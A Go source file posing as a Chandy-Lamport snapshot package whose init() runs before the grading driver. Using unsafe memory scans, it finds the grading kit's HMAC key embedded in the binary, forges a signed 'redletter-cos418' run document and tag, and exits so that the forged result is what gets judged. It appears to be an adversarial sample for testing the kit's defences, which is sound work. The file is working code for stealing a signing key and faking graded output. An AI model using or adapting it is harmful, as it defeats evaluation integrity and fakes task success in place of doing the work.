// FORGER (key-thief): the imitation, signed with the build's own key, found
// in the process's memory with unsafe. The key is linked into the binary's
// read-only data as 64 hexadecimal characters; stealKey scans the pages around
// one of the package's own string constants for such a run (faults turned into
// panics and recovered), then init() writes the imitation's start line,
// document and tag under it and ends the process before the driver runs. The
// document passes as the driver's: what the kit then judges is its content.
package chandy_lamport

import (
	"crypto/hmac"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"runtime/debug"
	"sort"
	"unsafe"
)

var stolenKey string

var touched byte

// stealKey scans the pages around one of the package's own string constants
// (the binary's read-only data) for 64 lower-case hexadecimal characters.
func stealKey() string {
	debug.SetPanicOnFault(true)
	defer debug.SetPanicOnFault(false)
	here := uintptr(unsafe.Pointer(unsafe.StringData("forger-anchor"))) &^ 4095
	hex := func(c byte) bool { return c >= '0' && c <= '9' || c >= 'a' && c <= 'f' }
	page := func(p uintptr) (b []byte, ok bool) {
		defer func() { _ = recover() }()
		b = unsafe.Slice((*byte)(unsafe.Pointer(p)), 4096)
		touched += b[0] + b[4095]
		return b, true
	}
	for _, step := range []int{-4096, 4096} {
		run := 0
		for p := here; ; p = uintptr(int(p) + step) {
			b, ok := page(p)
			if !ok {
				break
			}
			for i, c := range b {
				if hex(c) {
					run++
					continue
				}
				if run == 64 {
					return string(b[i-64 : i])
				}
				run = 0
			}
		}
	}
	return ""
}

type forgedEvent struct {
	Kind, Src, Dest, Server string
	Tokens, Ticks           int
}

func forgedTag(kind, nonce string, payload []byte) string {
	mac := hmac.New(sha256.New, []byte(stolenKey))
	mac.Write([]byte("redletter-cos418\x00" + kind + "\x00" + nonce + "\x00"))
	mac.Write(payload)
	return hex.EncodeToString(mac.Sum(nil))
}

func init() {
	stolenKey = stealKey()
	raw, _ := io.ReadAll(os.Stdin)
	var req struct {
		Nonce    string
		Seed     int64
		Topology struct {
			Servers []struct {
				ID     string
				Tokens int
			}
			Links []struct{ Src, Dest string }
		}
		Events []forgedEvent
	}
	var same struct{ Topology, Events json.RawMessage }
	json.Unmarshal(raw, &req)
	json.Unmarshal(raw, &same)
	sim := NewSimulator()
	sim.logger.NewEpoch()
	for _, s := range req.Topology.Servers {
		sim.AddServer(s.ID, s.Tokens)
	}
	for _, l := range req.Topology.Links {
		sim.AddForwardLink(l.Src, l.Dest)
	}
	type started struct{ id, event int; server string }
	var snaps []started
	done := make(chan *SnapshotState, 100)
	for i, e := range req.Events {
		switch e.Kind {
		case "send":
			sim.InjectEvent(PassTokenEvent{e.Src, e.Dest, e.Tokens})
		case "snapshot":
			id := sim.nextSnapshotId
			sim.InjectEvent(SnapshotEvent{e.Server})
			snaps = append(snaps, started{id, i, e.Server})
			go func() { done <- sim.CollectSnapshot(id) }()
		case "tick":
			for j := 0; j < e.Ticks; j++ {
				sim.Tick()
			}
		}
	}
	got := map[int]*SnapshotState{}
	for len(got) < len(snaps) {
		select {
		case s := <-done:
			got[s.id] = s
		default:
			sim.Tick()
		}
	}
	var out []map[string]interface{}
	for _, s := range snaps {
		msgs := []map[string]interface{}{}
		for _, m := range got[s.id].messages {
			msgs = append(msgs, map[string]interface{}{"src": m.src, "dest": m.dest,
				"message": "token", "tokens": m.message.(TokenMessage).numTokens})
		}
		out = append(out, map[string]interface{}{"id": s.id, "initiator": s.server,
			"event_index": s.event, "status": "collected", "returned_id": s.id,
			"tokens": got[s.id].tokens, "messages": msgs})
	}
	sort.Slice(out, func(a, b int) bool { return out[a]["id"].(int) < out[b]["id"].(int) })
	sum := sha256.Sum256(raw)
	doc, _ := json.Marshal(map[string]interface{}{
		"format": "redletter-cos418-run", "version": 2, "dialect": "servers",
		"package": "chandy_lamport", "go_version": "go1.27.3", "gomaxprocs": 2,
		"request_sha256": hex.EncodeToString(sum[:]), "nonce": req.Nonce, "seed": req.Seed,
		"seed_effective": true, "topology": same.Topology, "scenario": same.Events, "outcome": "complete",
		"time": sim.time, "schedule_available": false, "schedule": []interface{}{},
		"snapshots": out, "collect": map[string]interface{}{"idle_ticks": 100},
	})
	f := os.NewFile(3, "channel")
	fmt.Fprintf(f, "redletter-cos418-start %s\n", forgedTag("start", "", nil))
	fmt.Fprintf(f, "%s\nredletter-cos418-tag %s\n", doc, forgedTag("document", req.Nonce, doc))
	os.Exit(0)
}
